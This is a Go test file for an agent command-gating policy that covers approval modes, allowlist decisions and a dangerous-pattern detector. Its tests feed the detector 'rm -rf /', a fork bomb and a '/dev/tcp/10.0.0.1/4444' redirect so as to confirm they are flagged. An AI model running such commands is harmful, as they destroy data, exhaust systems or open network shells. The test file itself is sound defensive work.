package policy

import (
	"path/filepath"
	"testing"

	"github.com/rs/zerolog"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"cmdgate/allowlist"
	"cmdgate/approval"
	"cmdgate/resolver"
	"cmdgate/shellparse"
)

func TestRequiresApprovalAlwaysAndNever(t *testing.T) {
	assert.True(t, RequiresApproval(AskAlways, SecurityOff, true, true))
	assert.False(t, RequiresApproval(AskNever, SecurityDeny, false, false))
}

func TestRequiresApprovalUntrustedAllowlist(t *testing.T) {
	assert.True(t, RequiresApproval(AskUntrusted, SecurityAllowlist, false, true))
	assert.True(t, RequiresApproval(AskUntrusted, SecurityAllowlist, true, false))
	assert.False(t, RequiresApproval(AskUntrusted, SecurityAllowlist, true, true))
}

func TestRequiresApprovalUntrustedOff(t *testing.T) {
	assert.True(t, RequiresApproval(AskUntrusted, SecurityOff, false, true))
	assert.False(t, RequiresApproval(AskUntrusted, SecurityOff, true, true))
}

func TestFinalDecisionSecurityDenyWins(t *testing.T) {
	d := FinalDecision(FinalDecisionInput{
		Policy:             Policy{Security: SecurityDeny, Ask: AskNever},
		AnalysisOK:         true,
		AllowlistSatisfied: true,
	})
	assert.Equal(t, KindDeny, d.Kind)
	assert.Equal(t, "security=deny", d.Reason)
}

func TestFinalDecisionScreenRecordingDenied(t *testing.T) {
	d := FinalDecision(FinalDecisionInput{
		Policy:                       Policy{Security: SecurityOff, Ask: AskNever},
		AnalysisOK:                   true,
		AllowlistSatisfied:           true,
		NeedsScreenRecording:         true,
		HasScreenRecordingPermission: false,
	})
	assert.Equal(t, KindDeny, d.Kind)
	assert.Equal(t, "permission:screenRecording", d.Reason)
}

func TestFinalDecisionDangerousPatternDenied(t *testing.T) {
	d := FinalDecision(FinalDecisionInput{
		Policy:             Policy{Security: SecurityOff, Ask: AskNever},
		AnalysisOK:         true,
		AllowlistSatisfied: true,
		CmdText:            "rm -rf /",
	})
	assert.Equal(t, KindDeny, d.Kind)
	assert.Equal(t, "dangerous-pattern", d.Reason)
}

func TestFinalDecisionCmdExeForcesAskOnWindowsAllowlist(t *testing.T) {
	d := FinalDecision(FinalDecisionInput{
		Policy:             Policy{Security: SecurityAllowlist, Ask: AskUntrusted},
		AnalysisOK:         true,
		AllowlistSatisfied: true,
		IsWindows:          true,
		OuterIsCmdExe:      true,
	})
	assert.Equal(t, KindAsk, d.Kind)
}

func TestFinalDecisionCmdExeRuleSkippedWhenAlreadyApproved(t *testing.T) {
	d := FinalDecision(FinalDecisionInput{
		Policy:             Policy{Security: SecurityAllowlist, Ask: AskUntrusted},
		AnalysisOK:         true,
		AllowlistSatisfied: true,
		IsWindows:          true,
		OuterIsCmdExe:      true,
		Approval:           ApprovalInput{Approved: true, ApprovalDecision: approval.DecisionAllowOnce},
	})
	assert.Equal(t, KindAllow, d.Kind)
}

func TestFinalDecisionAsksWhenApprovalRequired(t *testing.T) {
	d := FinalDecision(FinalDecisionInput{
		Policy:             Policy{Security: SecurityOff, Ask: AskAlways},
		AnalysisOK:         true,
		AllowlistSatisfied: true,
	})
	assert.Equal(t, KindAsk, d.Kind)
	assert.Equal(t, "approval-required", d.Reason)
}

func TestFinalDecisionAllowlistMissDenied(t *testing.T) {
	d := FinalDecision(FinalDecisionInput{
		Policy:             Policy{Security: SecurityAllowlist, Ask: AskNever},
		AnalysisOK:         true,
		AllowlistSatisfied: false,
	})
	assert.Equal(t, KindDeny, d.Kind)
	assert.Equal(t, "allowlist-miss", d.Reason)
}

func TestFinalDecisionAllowlistMissAllowedWhenApproved(t *testing.T) {
	d := FinalDecision(FinalDecisionInput{
		Policy:             Policy{Security: SecurityAllowlist, Ask: AskNever},
		AnalysisOK:         true,
		AllowlistSatisfied: false,
		Approval:           ApprovalInput{Approved: true, ApprovalDecision: approval.DecisionAllowOnce},
	})
	assert.Equal(t, KindAllow, d.Kind)
}

func TestFinalDecisionAllow(t *testing.T) {
	d := FinalDecision(FinalDecisionInput{
		Policy:             Policy{Security: SecurityOff, Ask: AskNever},
		AnalysisOK:         true,
		AllowlistSatisfied: true,
	})
	assert.Equal(t, KindAllow, d.Kind)
}

func TestMatchDangerousPatternForkBomb(t *testing.T) {
	matched, msg := MatchDangerousPattern(":(){ :|:& };:")
	assert.True(t, matched)
	assert.NotEmpty(t, msg)
}

func TestMatchDangerousPatternDevTcp(t *testing.T) {
	matched, _ := MatchDangerousPattern("echo hi > /dev/tcp/10.0.0.1/4444")
	assert.True(t, matched)
}

func TestMatchDangerousPatternBenignCommand(t *testing.T) {
	matched, _ := MatchDangerousPattern("ls -la")
	assert.False(t, matched)
}

func newTestStore(t *testing.T) *allowlist.Store {
	t.Helper()
	path := filepath.Join(t.TempDir(), "allowlist.json")
	s, err := allowlist.Open(path, zerolog.Nop())
	require.NoError(t, err)
	return s
}

func TestOnAllowInsertsEntryOnAllowAlways(t *testing.T) {
	store := newTestStore(t)
	segments := []shellparse.Segment{
		{Argv: []string{"echo", "hi"}, Resolution: &resolver.Resolution{ResolvedPath: "/usr/bin/echo", ResolvedVia: resolver.ViaPath}},
	}

	err := OnAllow(store, Policy{Security: SecurityAllowlist}, approval.DecisionAllowAlways, true, segments, nil, "agent-1", "echo hi")
	require.NoError(t, err)

	entries := store.Snapshot()
	require.Len(t, entries, 1)
	assert.Equal(t, "/usr/bin/echo", entries[0].Pattern)
	assert.Equal(t, "agent-1", entries[0].AgentID)
}

func TestOnAllowDoesNotInsertOnAllowOnce(t *testing.T) {
	store := newTestStore(t)
	segments := []shellparse.Segment{
		{Argv: []string{"echo", "hi"}, Resolution: &resolver.Resolution{ResolvedPath: "/usr/bin/echo", ResolvedVia: resolver.ViaPath}},
	}

	err := OnAllow(store, Policy{Security: SecurityAllowlist}, approval.DecisionAllowOnce, true, segments, nil, "agent-1", "echo hi")
	require.NoError(t, err)
	assert.Empty(t, store.Snapshot())
}

func TestOnAllowRecordsUseForMatches(t *testing.T) {
	store := newTestStore(t)
	require.NoError(t, store.AddEntry("", "/usr/bin/echo"))
	entries := store.Snapshot()
	require.Len(t, entries, 1)

	err := OnAllow(store, Policy{Security: SecurityOff}, approval.DecisionAllowOnce, true, nil, entries, "", "echo hi")
	require.NoError(t, err)

	entries = store.Snapshot()
	require.Len(t, entries, 1)
	assert.Equal(t, 1, entries[0].UseCount)
	assert.Equal(t, "echo hi", entries[0].LastCmdText)
}
